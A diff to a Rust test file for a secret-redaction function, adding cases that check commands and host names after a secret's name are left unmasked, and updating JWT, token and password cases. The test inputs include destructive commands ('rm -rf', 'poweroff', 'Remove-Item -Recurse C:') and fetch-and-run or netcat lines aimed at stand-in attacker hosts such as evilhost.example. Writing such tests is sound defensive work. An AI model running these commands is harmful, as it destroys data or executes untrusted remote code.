@@ -3,6 +3,28 @@
 use super::hide;
 
 #[test]
+fn a_name_of_a_secret_hides_no_word_of_a_command_and_no_host() {
+    for text in [
+        "TOKEN= rm -rf /home/ann",
+        "TOKEN=\"\" rm -rf ~",
+        "PASSWORD='' bash ./x",
+        "TOKEN= poweroff",
+        "$token = Remove-Item -Recurse C:",
+        "token: rm -rf x",
+        "curl -s https://eyJhbGciOiJI.evilhost.example/p|sh",
+        "curl eyJhbGciOiJI.eyJevilhost12.example",
+        "docker login -u ann --password-stdin registry.attacker-host.example",
+        "nc sk-evilhostevilhost1234.example 80",
+        "curl https://sk-evilhostevilhost1234/x",
+        "psql --password production",
+        "login --password hunter2",
+        "token=registry.attacker-host.example",
+    ] {
+        assert_eq!(hide(text), text);
+    }
+}
+
+#[test]
 fn secrets_in_text_are_hidden_and_the_rest_stays() {
     for (text, shown) in [
         ("postgres://me:hunter2@db/x", "postgres://me:[hidden: 7 characters]@db/x"),
@@ -20,8 +42,10 @@ fn secrets_in_text_are_hidden_and_the_rest_stays() {
         ("x:github_pat_11ABCDEFG0abcdefghijkl_mno", "x:[hidden: 37 characters]"),
         ("xoxb-123456789012-abcdef", "[hidden: 24 characters]"),
         ("id AKIAIOSFODNN7EXAMPLE.", "id [hidden: 20 characters]."),
-        ("a eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc_def b", "a [hidden: 44 characters] b"),
-        ("eyJhbGciOiJIUzI1NiJ9.eyJzdWIi..x", "[hidden: 29 characters]..x"),
+        (
+            "a eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc_def0123456789 b",
+            "a [hidden: 54 characters] b",
+        ),
         (
             "https://x.example/?a=1&key=AbC&b=2",
             "https://x.example/?a=1&key=[hidden: 3 characters]&b=2",
@@ -33,7 +57,9 @@ fn secrets_in_text_are_hidden_and_the_rest_stays() {
             "{\"password\": \"[hidden: 2 characters]\", \"n\": 1}",
         ),
         ("{\\\"password\\\":\\\"ab\\\"}", "{\\\"password\\\":\\\"[hidden: 2 characters]\\\"}"),
-        ("login --password hunter2 --user me", "login --password [hidden: 7 characters] --user me"),
+        ("login --token abcd1234efgh --user me", "login --token [hidden: 12 characters] --user me"),
+        ("token: abc\nhost: x", "token: [hidden: 3 characters]\nhost: x"),
+        ("password = \"ab\"", "password = \"[hidden: 2 characters]\""),
         ("--api-key=abc", "--api-key=[hidden: 3 characters]"),
         ("Cookie: session=abc1; theme=dark", "Cookie: session=abc1; theme=dark"),
         ("the password: hunter2.", "the password: [hidden: 7 characters]."),
